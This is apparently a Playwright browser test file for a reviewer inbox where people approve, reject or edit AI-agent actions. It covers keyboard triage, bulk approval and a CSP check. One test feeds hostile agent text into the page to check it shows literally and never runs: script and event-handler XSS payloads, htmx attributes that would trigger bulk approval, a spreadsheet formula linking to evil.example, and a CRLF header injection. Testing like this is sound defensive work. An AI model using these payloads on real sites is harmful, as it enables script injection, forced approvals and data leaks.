"""The reviewer inbox in a real browser: keyboard triage, hostile agent text, bulk approval.

Every test here also fails, at teardown, on a CSP violation, a page error or a
window dialog (see conftest.py).
"""

import re
from dataclasses import dataclass
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from agents.models import ActionType, Agent
from approvals.models import Decision, Review, ReviewAttention
from approvals.services import decision_create
from audit.models import AuditEvent
from tests.factories import (
    EMAIL_SCHEMA,
    ActionTypeFactory,
    AgentFactory,
    BehaviourVersionFactory,
    GrantFactory,
    UserFactory,
    reviewer,
)

pytestmark = [
    pytest.mark.browser,
    # Transactional, so that the live server's thread sees the rows.
    pytest.mark.django_db(transaction=True),
]

NOTE_SCHEMA = {
    "type": "object",
    "required": ["title"],
    "properties": {"title": {"type": "string", "maxLength": 200}, "body": {"type": "string"}},
}
POLICY = [
    {
        "id": "routine-notes",
        "action": "crm.note",
        "outcome": "review",
        "risk": "low",
        "bulk": True,
        "reason": "Notes are routine",
    },
    {
        "id": "outbound-email",
        "action": "email.send",
        "outcome": "review",
        "ttl": "8h",
        "reason": "Outbound email is reviewed",
    },
]


@dataclass
class Governance:
    agent: Agent
    email: ActionType
    note: ActionType


@pytest.fixture
def governance() -> Governance:
    email = ActionTypeFactory(
        key="email.send",
        name="Send email",
        summary_template="Email to {to}: {subject}",
        params_schema=EMAIL_SCHEMA,
        irreversible=True,
    )
    note = ActionTypeFactory(
        key="crm.note",
        name="Add CRM note",
        summary_template="Note: {title}",
        params_schema=NOTE_SCHEMA,
    )
    agent = AgentFactory(slug="sdr-agent", name="SDR agent", owner=UserFactory(username="owen"))
    agent.active_behaviour = BehaviourVersionFactory(agent=agent, number=1, policy=POLICY)
    agent.save()
    GrantFactory(agent=agent, action_type=email)
    GrantFactory(agent=agent, action_type=note)
    return Governance(agent=agent, email=email, note=note)


def submit(governance: Governance, action: ActionType, params: dict, **extra) -> Decision:
    extra.setdefault("reasoning", "The lead replied and asked for this.")
    return decision_create(agent=governance.agent, action_type=action, params=params, **extra)


def email(governance: Governance, to: str, subject: str) -> Decision:
    params = {"to": [to], "subject": subject, "body": f"Hello,\n\n{subject}.\n"}
    return submit(governance, governance.email, params, evidence={"signal": "reply"})


# With no broker, release runs eagerly after commit: an approval may be released already.
APPROVED = {Decision.Status.APPROVED, Decision.Status.RELEASING, Decision.Status.RELEASED}
REVIEW_EVENTS = [
    "decision.submitted",
    "decision.review_added",
    "decision.approved",
    "decision.rejected",
]


def events_for(decision: Decision) -> list[str]:
    """The decision's audit trail up to the verdict; release events are not this file's concern."""
    return list(
        AuditEvent.objects.filter(
            target_type="approvals.decision", target_id=str(decision.pk), event__in=REVIEW_EVENTS
        )
        .order_by("id")
        .values_list("event", flat=True)
    )


def test_a_reviewer_triages_the_inbox_with_the_keyboard(page, login, recorded, governance):
    rita = reviewer(username="rita")
    submitted = [
        email(governance, "ann@acme.example", "Pricing for Acme"),
        email(governance, "bob@globex.example", "Follow-up with Globex"),
        email(governance, "cy@initech.example", "Intro to Initech"),
        email(governance, "di@umbrella.example", "Renewal for Umbrella"),
    ]
    assert {d.status for d in submitted} == {Decision.Status.PENDING}

    login(page, "rita")
    rows = page.locator("#inbox .inbox-row")
    detail = page.locator("#decision-detail")
    expect(rows).to_have_count(4)
    for decision in submitted:
        expect(page.locator(".inbox-list")).to_contain_text(decision.summary)
    order = [rows.nth(i).get_attribute("data-id") for i in range(4)]
    assert sorted(order) == sorted(str(d.pk) for d in submitted)
    by_id = {str(d.pk): d for d in submitted}
    first, second, third, fourth = (by_id[i] for i in order)
    expect(detail).to_have_attribute("data-decision-id", order[0])
    expect(detail.locator("#decision-title")).to_have_text(first.summary)

    # Approve the selected decision with "a"; an irreversible email at high risk asks
    # first, and Shift+A confirms (issue 13, item 2); the next one opens.
    page.keyboard.press("a")
    expect(page.locator("#confirm-panel")).to_have_attribute("open", "")
    page.keyboard.press("Shift+A")
    expect(detail).to_have_attribute("data-decision-id", order[1])
    expect(detail.locator("#decision-title")).to_have_text(second.summary)
    expect(rows).to_have_count(3)
    expect(page.locator("#inbox .messages")).to_contain_text(f"Approved: {first.summary}")
    expect(page).to_have_url(re.compile(rf"/inbox/{order[1]}/$"))
    expect(page.locator("#approve-button")).to_be_focused()

    # j and k move through the list.
    page.keyboard.press("j")
    expect(detail).to_have_attribute("data-decision-id", order[2])
    expect(page.locator(f'.inbox-row[data-id="{order[2]}"]')).to_have_class(
        re.compile("is-selected")
    )
    expect(page).to_have_url(re.compile(rf"/inbox/{order[2]}/$"))
    page.keyboard.press("k")
    expect(detail).to_have_attribute("data-decision-id", order[1])
    expect(page).to_have_url(re.compile(rf"/inbox/{order[1]}/$"))

    # Reject with r: the reason box takes the keyboard.
    page.keyboard.press("r")
    reason_box = page.get_by_label("Reason")
    expect(reason_box).to_be_focused()
    reason = "Bob asked us to stop emailing him last week."
    page.keyboard.type(reason)
    page.get_by_label("Wrong recipient", exact=True).check()
    page.get_by_role("button", name="Reject", exact=True).click()
    expect(detail).to_have_attribute("data-decision-id", order[2])
    expect(rows).to_have_count(2)
    expect(page.locator("#inbox .messages")).to_contain_text(f"Rejected: {second.summary}")

    # Edit & approve with e: change the subject, then approve the edited action.
    page.keyboard.press("e")
    subject = page.get_by_label("Subject")
    expect(subject).to_have_value("Intro to Initech")
    subject.fill("Introducing aispm to Initech")
    page.get_by_label("Comment for the agent").fill("Name the product in the subject.")
    page.get_by_role("button", name="Approve edited action").click()
    expect(detail).to_have_attribute("data-decision-id", order[3])
    expect(rows).to_have_count(1)
    expect(page.locator("#inbox .messages")).to_contain_text("Edited and approved:")

    for decision in submitted:
        decision.refresh_from_db()

    assert first.status in APPROVED
    assert first.approval == Decision.Approval.HUMAN
    assert first.decided_by == rita
    assert first.approved_params == first.params
    [review] = first.reviews.all()
    assert (review.reviewer, review.verdict) == (rita, Review.Verdict.APPROVE)

    assert second.status == Decision.Status.REJECTED
    assert second.status_reason == reason
    [review] = second.reviews.all()
    assert (review.reviewer, review.verdict) == (rita, Review.Verdict.REJECT)
    assert review.comment == reason
    assert review.tags == ["wrong recipient"]

    original = {
        "to": ["cy@initech.example"],
        "subject": "Intro to Initech",
        "body": "Hello,\n\nIntro to Initech.\n",
    }
    assert third.status in APPROVED
    assert third.params == original
    assert third.approved_params == {**original, "subject": "Introducing aispm to Initech"}
    assert third.approved_params != third.params
    [review] = third.reviews.all()
    assert (review.reviewer, review.verdict) == (rita, Review.Verdict.EDIT_APPROVE)
    assert review.comment == "Name the product in the subject."
    assert review.params_before == original
    assert review.params_after == third.approved_params

    assert fourth.status == Decision.Status.PENDING
    assert not fourth.reviews.exists()

    submitted_event = "decision.submitted"
    approved_trail = [submitted_event, "decision.review_added", "decision.approved"]
    assert events_for(first) == approved_trail
    assert events_for(second) == [submitted_event, "decision.rejected"]
    assert events_for(third) == approved_trail
    assert events_for(fourth) == [submitted_event]
    by_rita = AuditEvent.objects.filter(actor_user=rita, event__in=REVIEW_EVENTS)
    assert by_rita.get(event="decision.rejected").data == {
        "reason": reason,
        "tags": ["wrong recipient"],
    }
    edited = by_rita.get(event="decision.review_added", target_id=str(third.pk)).data
    assert edited["verdict"] == Review.Verdict.EDIT_APPROVE
    # Both approvals kept their attention: the plain one and the edit, each timed.
    for approved, via in ((first, "inbox"), (third, "edit")):
        attention = ReviewAttention.objects.get(review__decision=approved)
        assert attention.via == via and attention.seconds_on_screen is not None
    assert edited["params_after"] == third.approved_params
    assert by_rita.count() == 5

    assert not [r for r in recorded.requests if urlsplit(r.url).path.startswith("/admin/")]


REASONING = "<script>alert(1)</script><img src=x onerror=alert(2)>"
EVIDENCE_NOTE = '<b hx-get="/admin/" hx-trigger="load">x</b>'
HOSTILE_PARAMS = {
    "title": '<a hx-post="/inbox/bulk-approve/" hx-trigger="load">Quarterly notes</a>',
    "attribute": '" hx-post="/inbox/bulk-approve/" hx-trigger="load" x="',
    "formula": '=HYPERLINK("https://evil.example/?leak=1","Open")',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1)",
    "crlf": "first line\r\nX-Injected: header",
    # Over 120 characters, so it is shown folded in a <pre>.
    "body": "<script>alert(3)</script>" + "<svg onload=alert(4)>" * 6,
}


def assert_agent_text_is_inert(page, recorded, live_server, hostile: Decision):
    """The hostile decision is open: its text shows literally and nothing in it ran."""
    detail = page.locator(f'#decision-detail[data-decision-id="{hostile.pk}"]')
    expect(detail).to_be_visible()
    section = {
        name: detail.locator("section").filter(has=page.locator(f"#{name}-title"))
        for name in ("why", "evidence", "params")
    }
    expect(section["why"].get_by_text(REASONING, exact=True)).to_be_visible()
    expect(section["evidence"].get_by_text(EVIDENCE_NOTE, exact=True)).to_be_visible()
    expect(detail.locator("#decision-title")).to_have_text(hostile.summary)
    row = page.locator(f'.inbox-row[data-id="{hostile.pk}"] .row-link')
    expect(row).to_have_text(hostile.summary)
    for name in ("title", "attribute", "formula", "plus", "minus", "at"):
        expect(section["params"].get_by_text(HOSTILE_PARAMS[name], exact=True)).to_be_visible()
    # The HTML parser turns CR LF into LF; the text must otherwise be untouched.
    crlf = section["params"].locator(".value").filter(has_text="first line")
    assert crlf.text_content() == HOSTILE_PARAMS["crlf"].replace("\r\n", "\n")
    expect(section["params"].locator("pre.code")).to_have_text(HOSTILE_PARAMS["body"])

    # Defence in depth: agent text sits where htmx is switched off. The row link is
    # itself live htmx (it opens the decision); the summary inside it is not.
    for part in section.values():
        expect(part.locator("xpath=ancestor::*[@hx-disable]")).to_have_count(1)
    expect(row.locator("xpath=./*[@hx-disable]")).to_have_text(hostile.summary)
    expect(row.locator("xpath=ancestor::*[@hx-disable]")).to_have_count(0)

    # htmx is live on the page, so hx-* attributes would have fired had they been markup.
    assert page.evaluate("typeof window.htmx") == "object"
    page.wait_for_timeout(1000)
    assert recorded.dialogs == []
    assert (
        page.locator("script").evaluate_all(
            "scripts => scripts.filter(s => s.textContent.includes('alert')).length"
        )
        == 0
    )
    scripts = page.locator("script").evaluate_all("scripts => scripts.map(s => s.src)")
    assert scripts and all(urlsplit(src).path.startswith("/static/") for src in scripts), scripts
    expect(page.locator('img[src="x"]')).to_have_count(0)
    expect(page.locator("svg[onload], [onerror], [onload]")).to_have_count(0)
    expect(page.locator('[hx-trigger="load"], [hx-get="/admin/"]')).to_have_count(0)

    # Only the page itself, its static assets and the counter poll may be fetched.
    allowed = {
        ("GET", "/accounts/login/"),
        ("POST", "/accounts/login/"),
        ("GET", "/inbox/"),
        ("GET", f"/inbox/{hostile.pk}/"),
        ("GET", "/inbox/counter/"),
    }
    unexpected = []
    for request in recorded.requests:
        url = urlsplit(request.url)
        same_origin = f"{url.scheme}://{url.netloc}" == live_server.url
        static = request.method == "GET" and url.path.startswith("/static/")
        if not (same_origin and (static or (request.method, url.path) in allowed)):
            unexpected.append(f"{request.method} {request.url}")
    assert unexpected == []


def test_agent_text_shows_literally_and_never_runs(page, login, recorded, live_server, governance):
    reviewer(username="rita")
    # Irreversible, so high risk: listed above the low-risk hostile note.
    email(governance, "ann@acme.example", "Pricing for Acme")
    hostile = submit(
        governance,
        governance.note,
        HOSTILE_PARAMS,
        reasoning=REASONING,
        evidence={"note": EVIDENCE_NOTE},
    )

    # At its own URL, as a full page.
    login(page, "rita", next=f"/inbox/{hostile.pk}/")
    assert_agent_text_is_inert(page, recorded, live_server, hostile)

    # Swapped in by htmx, which processes new content as it arrives.
    page.goto("/inbox/")
    expect(page.locator("#decision-detail")).not_to_have_attribute(
        "data-decision-id", str(hostile.pk)
    )
    page.keyboard.press("j")
    assert_agent_text_is_inert(page, recorded, live_server, hostile)

    hostile.refresh_from_db()
    assert hostile.status == Decision.Status.PENDING
    assert not hostile.reviews.exists()


def test_routine_decisions_are_bulk_approved_after_a_confirmation(
    page, login, recorded, governance
):
    rita = reviewer(username="rita")
    notes = [
        submit(governance, governance.note, {"title": title})
        for title in ("Met Acme", "Called Globex", "Emailed Initech")
    ]
    outbound = email(governance, "ann@acme.example", "Pricing for Acme")

    login(page, "rita")
    rows = page.locator("#inbox .inbox-row")
    expect(rows).to_have_count(4)
    # The irreversible email is not bulk-approvable, so it has no checkbox.
    expect(page.locator(".bulk-check")).to_have_count(3)
    expect(page.locator(f'.inbox-row[data-id="{outbound.pk}"] .bulk-check')).to_have_count(0)

    page.get_by_label("Select Note: Met Acme").check()
    page.get_by_label("Select Note: Emailed Initech").check()
    dialog = page.get_by_role("dialog", name=re.compile("Approve"))

    # Cancelling sends nothing.
    page.get_by_role("button", name="Approve selected").click()
    expect(dialog).to_be_visible()
    dialog.get_by_role("button", name="Cancel").click()
    expect(dialog).to_be_hidden()
    page.wait_for_timeout(300)
    assert not [r for r in recorded.requests if "bulk-approve" in r.url]

    page.get_by_role("button", name="Approve selected").click()
    expect(dialog).to_be_visible()
    expect(dialog.get_by_role("heading")).to_have_text("Approve 2 decisions?")
    expect(page.locator("#bulk-count")).to_have_text("2")
    dialog.get_by_role("button", name="Approve 2").click()
    expect(rows).to_have_count(2)
    expect(page.locator("#inbox .messages")).to_contain_text("Approved 2 decisions.")
    assert recorded.dialogs == []

    met, called, emailed = notes
    for decision in (*notes, outbound):
        decision.refresh_from_db()
    assert met.status in APPROVED
    assert emailed.status in APPROVED
    assert called.status == outbound.status == Decision.Status.PENDING
    for decision in (met, emailed):
        assert decision.decided_by == rita
        assert [r.verdict for r in decision.reviews.all()] == [Review.Verdict.APPROVE]
        # Each bulk approval counts for attention; no time on screen is measured for it.
        attention = ReviewAttention.objects.get(review__decision=decision)
        assert (attention.via, attention.seconds_on_screen) == ("bulk", None)
        assert events_for(decision) == [
            "decision.submitted",
            "decision.review_added",
            "decision.approved",
        ]
    posts = [r for r in recorded.requests if "bulk-approve" in r.url]
    assert [r.method for r in posts] == ["POST"]


def test_question_mark_opens_the_shortcuts(page, login, recorded, governance):
    reviewer(username="rita")
    pending = email(governance, "ann@acme.example", "Pricing for Acme")

    login(page, "rita")
    dialog = page.get_by_role("dialog", name="Keyboard shortcuts")
    expect(dialog).to_be_hidden()
    page.keyboard.press("?")
    expect(dialog).to_be_visible()
    expect(dialog).to_contain_text("Next / previous decision")
    # Shortcuts stay quiet while the dialog is open.
    page.keyboard.press("a")
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    page.wait_for_timeout(300)
    posts = [urlsplit(r.url).path for r in recorded.requests if r.method == "POST"]
    assert posts == ["/accounts/login/"]
    pending.refresh_from_db()
    assert pending.status == Decision.Status.PENDING

    page.get_by_role("button", name="Keyboard shortcuts").click()
    expect(dialog).to_be_visible()
    dialog.get_by_role("button", name="Close").click()
    expect(dialog).to_be_hidden()


def test_the_csp_check_catches_an_inline_script(page, login, recorded):
    """Guard the guard: an injected inline script is refused and reported."""
    reviewer(username="rita")
    login(page, "rita", next="/")
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.ran = true";
          document.body.append(script);
        }"""
    )
    expect(page.locator("body")).to_be_visible()
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert recorded.csp_violations()
    # Handled here, so the teardown check does not fail this test.
    recorded.console.clear()
